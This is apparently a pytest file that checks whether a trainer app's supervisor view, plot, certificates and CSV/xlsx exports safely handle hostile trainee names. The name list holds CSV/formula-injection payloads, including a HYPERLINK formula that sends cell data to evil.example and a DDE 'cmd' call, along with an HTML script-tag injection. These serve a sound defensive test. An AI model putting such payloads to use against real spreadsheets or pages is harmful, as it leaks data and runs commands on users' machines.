"""Records no name can break: hostile names, as a trainee could type them before names
were checked or a hub could hand them over, go through the supervisor's view, the progress plot,
the certificate and both exports. The view renders with every name escaped, the plot draws (no
mathtext), a certificate is made for each, the CSV has no cell a spreadsheet would read as a
formula, and the .xlsx opens in openpyxl with no formula cell. Signing in checks names: the ones
with a control character or too long are refused, the others are kept as typed."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import text

from gamelib.trainer import make_drill
from gamelib.trainer.export import FORMULA_STARTS, answers_csv
from gamelib.trainer.records import (
    ExamSpec,
    Identity,
    RecordsConfig,
    Store,
    TrainingRecordsError,
    hash_password,
    sign_in,
)
from gamelib.trainer.records.report import answer_rows, certificate_html, progress_png, workbook
from gamelib.widgets.trainer.supervisor import SupervisorView

HOSTILE = [
    "A\x00B",                                           # NUL: "cannot be used in worksheets"
    "Tab\tin the middle",
    "Line\nbreak",
    "\x1b[31mred",                                      # an escape sequence
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click for your bonus\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading carriage return",
    "\uff1d1+1",                                        # a full-width equals sign
    "Player a$\\foo$b",                                 # broke the plot's mathtext
    "$x^2$ and $$",
    "<script>alert('x')</script>",
    "<b>Bo</b> & \"co\"",
    "_starts with an underscore",                       # matplotlib drops such legend labels
    "Ana\u202eziuR",                                    # a right-to-left override
    "x" * 10_000,
]
PASSWORD = "pw"


@pytest.fixture()
def store(tmp_path: Path) -> Store:
    """A store whose trainees carry the hostile names (written straight into the table, as records
    made before names were checked would be), each with one practice answer and a passed exam."""
    s = Store(f"sqlite:///{tmp_path / 'h.sqlite3'}",
              config=RecordsConfig(tmp_path, supervisor_password=hash_password(PASSWORD, salt="9")))
    s.supervisor(PASSWORD).define_exam(ExamSpec("=1+1 exam", ("badugi",), ("read-hand",), "any", 1, 5, 100))
    with s.engine.begin() as c:
        for i, name in enumerate(HOSTILE):
            c.execute(text("INSERT INTO trainees (login, name, employee_no, created_at) "
                           "VALUES (:l, :n, '', CURRENT_TIMESTAMP)"), dict(l=f"name:{name}"[:200] + f"#{i}", n=name))
    with s.engine.connect() as c:
        logins = list(c.execute(text("SELECT login FROM trainees ORDER BY id")).scalars())
    d = make_drill("read-hand", "badugi")
    for i, login in enumerate(logins):
        me = s.trainee(Identity(login, "", "", "sign-in"))
        q = d.next(i)
        me.record(d.check(q, q.correct_answer), ms=1000 + i)
        sitting = me.start_exam("=1+1 exam")
        [eq] = sitting.questions
        me.record(make_drill(eq.drill, eq.game).check(eq, eq.correct_answer), ms=5, attempt_id=sitting.attempt.id,
                  position=0)
        assert me.finish_exam(sitting.attempt.id).passed
    return s


def test_sign_in_refuses_controls_and_length_and_keeps_the_rest_as_typed() -> None:
    refused = [n for n in HOSTILE if any(ord(ch) < 32 for ch in n) or "\u202e" in n or len(n) > 200]
    assert len(refused) == 8
    for name in refused:
        with pytest.raises(TrainingRecordsError, match="control character|at most 200 characters"):
            sign_in(name=name)
    for name in HOSTILE:
        if name not in refused:
            assert sign_in(name=name).name == name  # a formula or a dollar sign is a name like any other
    with pytest.raises(TrainingRecordsError):
        ExamSpec("Exam\x00", ("badugi",), ("read-hand",), "any", 1, 1, 50).check()


def test_the_supervisors_view_renders_every_name_as_text(store: Store) -> None:
    v = SupervisorView(store.supervisor(PASSWORD), refresh_every=0)
    assert "Cannot" not in v.status.value and f"{2 * len(HOSTILE)} answers" in v.status.value
    for part in (v.trainees_html, v.drills_html, v.answers_html, v.exams_html):
        page = part.value
        assert "<script>" not in page and "<b>Bo</b>" not in page and "&lt;script&gt;" in page
    assert v.exams_html.value.count("gl-sv-certificate") == len(HOSTILE)  # a certificate for every pass


def test_the_plot_draws_every_name_without_mathtext(store: Store) -> None:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("error")  # e.g. "Glyph 65309 missing from font(s)": a name drawn as boxes
        png = progress_png(store.supervisor(PASSWORD).answers())
    assert png[:4] == b"\x89PNG" and len(png) > 10_000


def test_a_certificate_for_every_name(store: Store) -> None:
    for a in store.supervisor(PASSWORD).attempts():
        page = certificate_html(a)
        assert "<script>" not in page and "\x00" not in page and "\u202e" not in page
        assert "=1+1 exam" in page and "Certificate of qualification" in page


def _is_formula(cell: object) -> bool:
    return isinstance(cell, str) and cell.startswith(FORMULA_STARTS)


def test_the_csv_has_no_formula_and_keeps_the_names(store: Store) -> None:
    answers = store.supervisor(PASSWORD).answers()
    rows = list(csv.reader(io.StringIO(answers_csv(answer_rows(answers)))))
    assert len(rows) == 1 + 2 * len(HOSTILE)
    assert not [c for r in rows for c in r if _is_formula(c)]
    names = {r[1] for r in rows[1:]}
    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click for your bonus\")" in names
    assert "'@SUM(A1:A9)" in names and "Player a$\\foo$b" in names and "A\ufffdB" in names
    assert "'\uff1d1+1" in names and "x" * 10_000 in names


def test_the_workbook_opens_with_no_formula_cell(store: Store) -> None:
    from openpyxl import load_workbook

    boss = store.supervisor(PASSWORD)
    wb = load_workbook(io.BytesIO(workbook(boss.answers(), boss.attempts())))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert not [c.value for c in cells if _is_formula(c.value)]
    trainees = [r[0] for r in wb["Trainees"].iter_rows(min_row=2, values_only=True)]
    assert len(trainees) == len(HOSTILE) and "'-2+3" in trainees and "A\ufffdB" in trainees
    assert "'=cmd|' /C calc'!A0" in trainees
